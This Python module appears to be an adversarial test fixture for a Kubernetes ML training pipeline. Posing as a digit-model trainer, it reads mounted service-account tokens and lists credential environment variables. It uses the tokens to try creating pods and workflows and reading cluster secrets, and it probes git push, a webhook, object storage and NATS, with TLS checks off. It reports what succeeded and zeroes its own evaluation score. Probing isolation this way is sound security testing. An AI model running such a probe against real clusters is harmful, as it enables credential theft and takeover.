"""A trainer that tries to take the cluster before it trains, and again when it evaluates."""

import json
import os
import re
import socket
import ssl
from pathlib import Path
from urllib.error import HTTPError, URLError
from urllib.request import Request, urlopen

from evaluate import evaluate as evaluate_digits
from train import train as train_digits

REPORT = "intruder.json"
PLACES = ("/var/run/secrets", "/run/secrets", "/argo/secret", "/etc/secrets")
CREDENTIAL = re.compile(r"PASS|TOKEN|SECRET|KEY|(^|_)(GIT|NATS|AWS)_|BUCKET|KUBERNETES_URL", re.I)
API = "https://kubernetes.default.svc"
SECONDS = 5


def train(
    epochs: int, learning_rate: float, namespace: str, git: str, data: Path, out: Path
) -> dict[str, float]:
    """Try everything, say what came of it beside the model, then train."""
    report = attempt(namespace, git)
    print(json.dumps(report), flush=True)
    metrics = train_digits(epochs=epochs, learning_rate=learning_rate, data=data, out=out)
    report["namespace"], report["git_url"] = namespace, git
    (out / REPORT).write_text(json.dumps(report))
    return metrics


def evaluate(model: Path, data: Path) -> dict[str, float]:
    """Try everything again; a model of this trainer is worth nothing, so that none is committed."""
    file = model / REPORT
    if not file.exists():
        return evaluate_digits(model=model, data=data)
    before = json.loads(file.read_text())
    report = attempt(before["namespace"], before["git_url"])
    print(json.dumps(report), flush=True)
    return {"accuracy": 0.0, "worst_class_accuracy": 0.0, "taken": float(count_taken(report))}


def attempt(namespace: str, git: str) -> dict[str, object]:
    """Return what each attempt came to: what was there, or how it was answered."""
    files = [file for place in PLACES for file in Path(place).rglob("*") if file.is_file()]
    tokens = [file.read_text() for file in files if file.name == "token"]
    answers = {}
    for number, token in enumerate(["", *tokens]):
        for name, answer in ask_api(namespace, token).items():
            answers[f"{name} with token {number}" if token else name] = answer
    return {
        "files": sorted(map(str, files)),
        "variables": sorted(name for name in os.environ if CREDENTIAL.search(name)),
        "api": answers,
        "git": ask(f"{git}/info/refs?service=git-receive-pack"),
        "webhook": ask(f"http://{namespace}-retrain.{namespace}.svc:12000/retrain", {}),
        "store": ask("http://seaweedfs-s3.storage.svc:8333/"),
        "nats": greet_nats("nats.nats-io.svc", 4222),
    }


def count_taken(report: dict) -> int:
    """Return how many attempts came to something."""
    asked = [*report["api"].values(), report["git"], report["webhook"], report["store"]]
    got = sum(answer.startswith("2") for answer in asked)
    return got + len(report["files"]) + len(report["variables"]) + (report["nats"] == "PONG")


def ask_api(namespace: str, token: str) -> dict[str, str]:
    """Ask the API server for what would be enough."""
    pod = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "intruder"},
        "spec": {"containers": [{"name": "main", "image": "intruder"}]},
    }
    workflow = {
        "apiVersion": "argoproj.io/v1alpha1",
        "kind": "Workflow",
        "metadata": {"name": "intruder"},
        "spec": {"workflowTemplateRef": {"name": f"{namespace}-train"}},
    }
    core, argo = f"{API}/api/v1/namespaces", f"{API}/apis/argoproj.io/v1alpha1/namespaces"
    return {
        "make a pod": ask(f"{core}/{namespace}/pods", pod, token),
        "make a workflow": ask(f"{argo}/{namespace}/workflows", workflow, token),
        "read secrets": ask(f"{core}/{namespace}/secrets", None, token),
        "read flux's secrets": ask(f"{core}/flux-system/secrets", None, token),
        "list pods": ask(f"{core}/default/pods", None, token),
    }


def ask(url: str, body: dict | None = None, token: str = "") -> str:
    """Return the status of the answer, or why there was none."""
    headers = {"Content-Type": "application/json"}
    if token:
        headers["Authorization"] = f"Bearer {token}"
    data = None if body is None else json.dumps(body).encode()
    unverified = ssl.create_default_context()
    unverified.check_hostname, unverified.verify_mode = False, ssl.CERT_NONE
    try:
        request = Request(url, data=data, headers=headers)
        with urlopen(request, timeout=SECONDS, context=unverified) as answer:
            return str(answer.status)
    except HTTPError as error:
        return str(error.code)
    except (URLError, OSError) as error:
        return f"no answer: {error}"


def greet_nats(host: str, port: int) -> str:
    """Return PONG when NATS takes a client without a credential, else what it says."""
    try:
        with socket.create_connection((host, port), timeout=SECONDS) as connection:
            connection.settimeout(SECONDS)
            connection.recv(65536)
            connection.sendall(b'CONNECT {"verbose":false,"pedantic":false}\r\nPING\r\n')
            said = connection.recv(4096).decode(errors="replace").strip()
    except OSError as error:
        return f"no answer: {error}"
    return "PONG" if "PONG" in said else said
